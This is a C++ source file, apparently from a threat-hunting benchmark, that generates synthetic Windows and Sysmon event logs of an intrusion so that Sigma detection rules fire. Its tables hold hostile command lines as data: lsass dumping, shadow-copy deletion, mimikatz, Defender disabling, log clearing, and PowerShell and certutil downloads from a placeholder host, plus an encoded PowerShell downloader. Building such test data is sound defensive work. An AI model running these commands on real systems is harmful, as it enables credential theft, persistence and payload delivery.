// Attack activity for the hunt workload: the records an intrusion leaves (execution, credential
// access, defence evasion, persistence, discovery, lateral movement), written from public
// ATT&CK technique descriptions so that real SigmaHQ rules fire on them.
#include "hunt_workload_parts.h"

using namespace Qt::StringLiterals;

namespace vigil::bench::detail {

namespace {

struct Launch {
    const char16_t* image;
    const char16_t* commandLine;
    const char16_t* parent;
    const char16_t* parentCommandLine;
    const char16_t* original;
};

const char16_t kCmd[] = u"C:\\Windows\\System32\\cmd.exe";
const char16_t kCmdLine[] = u"C:\\Windows\\system32\\cmd.exe";
const char16_t kPs[] = u"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const char16_t kWord[] = u"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const char16_t kWordLine[] =
    u"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n "
    u"\"C:\\Users\\{user}\\Downloads\\Invoice_{n}.doc\"";

const Launch kLaunches[] = {
    {u"C:\\Windows\\System32\\rundll32.exe",
     u"\"C:\\Windows\\system32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump {n} "
     u"C:\\Users\\Public\\lsass.dmp full",
     kCmd, kCmdLine, u"RUNDLL32.EXE"},
    {u"C:\\Windows\\System32\\vssadmin.exe", u"vssadmin.exe delete shadows /all /quiet", kCmd,
     kCmdLine, u"VSSADMIN.EXE"},
    {u"C:\\Windows\\System32\\certutil.exe",
     u"certutil.exe -urlcache -split -f http://{ip}/payload.exe C:\\Users\\Public\\svc.exe", kCmd,
     kCmdLine, u"CertUtil.exe"},
    {u"C:\\Windows\\System32\\whoami.exe", u"whoami.exe /all", u"C:\\Windows\\System32\\inetsrv\\w3wp.exe",
     u"c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\" -v \"v4.0\"", u"whoami.exe"},
    {u"C:\\Windows\\System32\\net.exe", u"net.exe user svc_backup P@ssw0rd123! /add /domain", kCmd,
     kCmdLine, u"net.exe"},
    {u"C:\\Windows\\System32\\schtasks.exe",
     u"schtasks.exe /create /sc minute /mo 15 /tn \"Microsoft\\Windows\\Update\\Updater\" /tr "
     u"\"C:\\Users\\Public\\svc.exe\" /ru SYSTEM /f",
     kCmd, kCmdLine, u"schtasks.exe"},
    {u"C:\\Windows\\System32\\reg.exe", u"reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save /y", kCmd,
     kCmdLine, u"reg.exe"},
    {u"C:\\Windows\\System32\\mshta.exe", u"mshta.exe http://{ip}/invoice.hta", kWord, kWordLine,
     u"MSHTA.EXE"},
    {u"C:\\Windows\\System32\\regsvr32.exe", u"regsvr32.exe /s /n /u /i:http://{ip}/file.sct scrobj.dll",
     kCmd, kCmdLine, u"REGSVR32.EXE"},
    {u"C:\\Windows\\System32\\wbem\\WMIC.exe", u"wmic.exe shadowcopy delete /nointeractive", kCmd,
     kCmdLine, u"wmic.exe"},
    {u"C:\\Windows\\System32\\bitsadmin.exe",
     u"bitsadmin.exe /transfer update /download /priority high http://{ip}/update.exe "
     u"C:\\Users\\Public\\update.exe",
     kCmd, kCmdLine, u"bitsadmin.exe"},
    {u"C:\\Users\\Public\\mimikatz.exe",
     u"C:\\Users\\Public\\mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", kCmd,
     kCmdLine, u"mimikatz.exe"},
    {u"C:\\Windows\\System32\\wevtutil.exe", u"wevtutil.exe cl Security", kCmd, kCmdLine,
     u"wevtutil.exe"},
    {u"C:\\Windows\\System32\\bcdedit.exe", u"bcdedit.exe /set {default} recoveryenabled No", kCmd,
     kCmdLine, u"bcdedit.exe"},
    {u"C:\\Windows\\System32\\net.exe", u"net.exe localgroup administrators svc_backup /add", kCmd,
     kCmdLine, u"net.exe"},
    {u"C:\\Windows\\System32\\nltest.exe", u"nltest.exe /domain_trusts /all_trusts", kCmd, kCmdLine,
     u"nltestrk.exe"},
    {kCmd,
     u"cmd.exe /c powershell -w hidden -c \"iwr http://{ip}/s.ps1 -OutFile $env:TEMP\\s.ps1; "
     u"& $env:TEMP\\s.ps1\"",
     kWord, kWordLine, u"Cmd.Exe"},
    {u"C:\\Users\\Public\\procdump64.exe",
     u"procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp", kCmd, kCmdLine,
     u"procdump"},
    {u"C:\\Windows\\PSEXESVC.exe", u"C:\\Windows\\PSEXESVC.exe", u"C:\\Windows\\System32\\services.exe",
     u"C:\\Windows\\system32\\services.exe", u"psexesvc.exe"},
    {u"C:\\Users\\Public\\AdFind.exe",
     u"AdFind.exe -f \"(objectcategory=computer)\" -csv name operatingSystem", kCmd, kCmdLine,
     u"AdFind.exe"},
    {kPs,
     u"powershell.exe -NoP -NonI -W Hidden -Exec Bypass IEX (New-Object "
     u"System.Net.WebClient).DownloadString('http://{ip}/a.ps1')",
     kCmd, kCmdLine, u"PowerShell.EXE"},
    {u"C:\\Windows\\System32\\netsh.exe",
     u"netsh advfirewall firewall add rule name=\"allow rdp\" dir=in action=allow protocol=TCP "
     u"localport=3389",
     kCmd, kCmdLine, u"netsh.exe"},
    {u"C:\\Windows\\System32\\reg.exe",
     u"reg.exe add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v "
     u"fDenyTSConnections /t REG_DWORD /d 0 /f",
     kCmd, kCmdLine, u"reg.exe"},
    {u"C:\\Windows\\System32\\sc.exe",
     u"sc.exe create updater binPath= \"C:\\Users\\Public\\svc.exe\" start= auto", kCmd, kCmdLine,
     u"sc.exe"},
    {u"C:\\Windows\\System32\\attrib.exe", u"attrib.exe +h +s C:\\Users\\Public\\svc.exe", kCmd,
     kCmdLine, u"ATTRIB.EXE"},
    {u"C:\\Windows\\System32\\wbem\\WMIC.exe",
     u"wmic /node:10.10.0.21 process call create \"cmd.exe /c C:\\Users\\Public\\svc.exe\"", kCmd,
     kCmdLine, u"wmic.exe"},
    {kPs, u"powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true", kCmd, kCmdLine,
     u"PowerShell.EXE"},
    {u"C:\\Windows\\System32\\ntdsutil.exe",
     u"ntdsutil.exe \"ac i ntds\" \"ifm\" \"create full c:\\temp\\ntds\" q q", kCmd, kCmdLine,
     u"ntdsutil.exe"},
    {u"C:\\Windows\\System32\\msiexec.exe", u"msiexec.exe /q /i http://{ip}/package.msi", kCmd,
     kCmdLine, u"msiexec.exe"},
    {u"C:\\Program Files\\7-Zip\\7z.exe",
     u"7z.exe a -tzip -pSecret123 C:\\Windows\\Temp\\out.zip C:\\Users\\{user}\\Documents", kCmd,
     kCmdLine, u"7z.exe"},
    {u"C:\\Windows\\System32\\rundll32.exe",
     u"rundll32.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\update.dll,DllRegisterServer", kWord,
     kWordLine, u"RUNDLL32.EXE"},
};

struct Write {
    const char16_t* image;
    const char16_t* target;
    const char16_t* details;
};

const Write kRegistryWrites[] = {
    {u"C:\\Windows\\System32\\reg.exe",
     u"HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
     u"C:\\Users\\Public\\svc.exe"},
    {u"C:\\Windows\\System32\\reg.exe",
     u"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
     u"DWORD (0x00000001)"},
    {u"C:\\Windows\\System32\\reg.exe",
     u"HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
     u"DWORD (0x00000001)"},
    {u"C:\\Users\\Public\\svc.exe",
     u"HKLM\\System\\CurrentControlSet\\Services\\updater\\ImagePath", u"C:\\Users\\Public\\svc.exe"},
};

const Write kFileWrites[] = {
    {u"C:\\Users\\Public\\svc.exe",
     u"C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"
     u"updater.lnk",
     nullptr},
    {u"C:\\Windows\\System32\\rundll32.exe", u"C:\\Users\\Public\\lsass.dmp", nullptr},
    {u"C:\\Windows\\System32\\certutil.exe", u"C:\\Users\\Public\\mimikatz.exe", nullptr},
    {kWord, u"C:\\Users\\{user}\\AppData\\Local\\Temp\\update.dll", nullptr},
};

const char16_t* const kScripts[] = {
    u"Invoke-Mimikatz -DumpCreds",
    u"IEX (New-Object Net.WebClient).DownloadString('http://{ip}/a.ps1')",
    u"Add-MpPreference -ExclusionPath C:\\Users\\Public",
    u"$s=[System.Convert]::FromBase64String($p); [System.Reflection.Assembly]::Load($s)",
    u"Get-ADComputer -Filter * -Properties * | Select-Object Name, OperatingSystem, IPv4Address",
};

const char16_t* const kDomains[] = {u"{n}.ngrok.io", u"transfer.sh", u"pastebin.com",
                                    u"api.telegram.org", u"raw.githubusercontent.com"};

QString encodedCommand(WorkloadGenerator& g)
{
    // -EncodedCommand takes UTF-16LE bytes in base64.
    const QString script = g.expand(u"IEX (New-Object Net.WebClient).DownloadString('http://{ip}/a')");
    QByteArray bytes;
    for (QChar c : script) {
        bytes.append(char(c.unicode() & 0xff));
        bytes.append(char(c.unicode() >> 8));
    }
    return QString::fromLatin1(bytes.toBase64());
}

void launch(WorkloadGenerator& g)
{
    demo::DemoRandom& r = g.rng();
    const std::size_t n = std::size(kLaunches);
    const std::size_t pick = r.below(n + 1);
    Proc parent;
    Proc child;
    QString original;
    if (pick == n) {
        parent = g.process(kWord, kWordLine, false);
        const QString commandLine = u"powershell.exe -nop -w hidden -enc "_s + encodedCommand(g);
        child = g.process(kPs, commandLine, false);
        original = u"PowerShell.EXE"_s;
    } else {
        const Launch& l = kLaunches[pick];
        parent = g.process(l.parent, l.parentCommandLine, false);
        child = g.process(l.image, l.commandLine, false);
        original = QString::fromUtf16(l.original);
    }
    child.integrity = u"High"_s;
    if (r.chance(300)) {
        g.securityProcess(child, parent);
    } else {
        g.processCreate(child, parent, original, {});
    }
}

void other(WorkloadGenerator& g, int kind)
{
    demo::DemoRandom& r = g.rng();
    JsonLine& l = g.line();
    switch (kind) {
    case 0:
        writeProcessAccess(g, u"C:\\Users\\Public\\svc.exe", u"C:\\Windows\\system32\\lsass.exe",
                           u"0x1010",
                           u"C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\"
                           u"KERNELBASE.dll+2c13e|C:\\Windows\\SYSTEM32\\dbghelp.dll+1b3a2|"
                           u"UNKNOWN(000001F3A1B2C3D4)");
        return;
    case 1: {
        const Write& w = r.pick(kRegistryWrites);
        g.sysmon(13, 13);
        l.text("EventType", u"SetValue");
        l.text("ProcessGuid", r.guid());
        l.text("ProcessId", QString::number(4 * r.range(100, 6000)));
        l.text("Image", w.image);
        l.text("TargetObject", g.expand(w.target));
        l.text("Details", w.details);
        l.text("User", u"CORP\\"_s + g.host().user);
        return;
    }
    case 2: {
        const Write& w = r.pick(kFileWrites);
        g.sysmon(11, 11);
        l.text("ProcessGuid", r.guid());
        l.text("ProcessId", QString::number(4 * r.range(100, 6000)));
        l.text("Image", g.expand(w.image));
        l.text("TargetFilename", g.expand(w.target));
        l.text("CreationUtcTime", g.utcTime());
        l.text("User", u"CORP\\"_s + g.host().user);
        return;
    }
    case 3:
        g.sysmon(22, 22);
        l.text("ProcessGuid", r.guid());
        l.text("ProcessId", QString::number(4 * r.range(100, 6000)));
        l.text("QueryName", g.expand(r.pick(kDomains)));
        l.text("QueryStatus", u"0");
        l.text("QueryResults", g.expand(u"::ffff:{ip};"));
        l.text("Image", kPs);
        l.text("User", u"CORP\\"_s + g.host().user);
        return;
    case 4:
        writeNetwork(g, u"C:\\Windows\\System32\\rundll32.exe", u"-", u"{ip}", 4444);
        return;
    case 5:
        g.header(4104, u"Microsoft-Windows-PowerShell/Operational", u"Microsoft-Windows-PowerShell",
                 5, 2);
        l.text("MessageNumber", u"1");
        l.text("MessageTotal", u"1");
        l.text("ScriptBlockText", g.expand(r.pick(kScripts)));
        l.text("ScriptBlockId", r.guid().mid(1, 36).toLower());
        l.text("Path", u"");
        return;
    case 6: {
        LogonSpec s;
        s.user = u"administrator"_s;
        s.domain = u"."_s;
        s.type = 3;
        s.package = u"NTLM"_s;
        s.ip = g.expand(u"{ip}");
        s.workstation = u"kali"_s;
        writeLogon(g, 4625, s);
        return;
    }
    case 7:
        g.header(1102, u"Security", u"Microsoft-Windows-Eventlog", 4, 104);
        l.text("SubjectUserSid", g.userSid(g.host().user));
        l.text("SubjectUserName", g.host().user);
        l.text("SubjectDomainName", u"CORP");
        l.text("SubjectLogonId", u"0x"_s + r.hex(6).toLower());
        return;
    case 8:
        g.header(7045, u"System", u"Service Control Manager", 4, 0);
        l.text("ServiceName", r.chance(500) ? u"PSEXESVC" : u"updater");
        l.text("ImagePath", r.chance(500) ? u"%SystemRoot%\\PSEXESVC.exe"_s
                                          : u"cmd.exe /c powershell -nop -w hidden -enc "_s
                                                + encodedCommand(g));
        l.text("ServiceType", u"user mode service");
        l.text("StartType", u"demand start");
        l.text("AccountName", u"LocalSystem");
        return;
    default:
        g.sysmon(7, 7);
        l.text("ProcessGuid", r.guid());
        l.text("ProcessId", QString::number(4 * r.range(100, 6000)));
        l.text("Image", kWord);
        l.text("ImageLoaded", u"C:\\Windows\\System32\\wbem\\wmiutils.dll");
        l.text("Description", u"WMI");
        l.text("OriginalFileName", u"wmiutils.dll");
        l.text("Signed", u"true");
        l.text("Signature", u"Microsoft Windows");
        l.text("SignatureStatus", u"Valid");
        l.text("User", u"CORP\\"_s + g.host().user);
        return;
    }
}

} // namespace

void writeAttack(WorkloadGenerator& g)
{
    // Half of the attack records are process launches: most SigmaHQ rules watch those.
    const int kind = int(g.rng().below(20));
    if (kind < 10) {
        launch(g);
    } else {
        other(g, kind - 10);
    }
}

} // namespace vigil::bench::detail
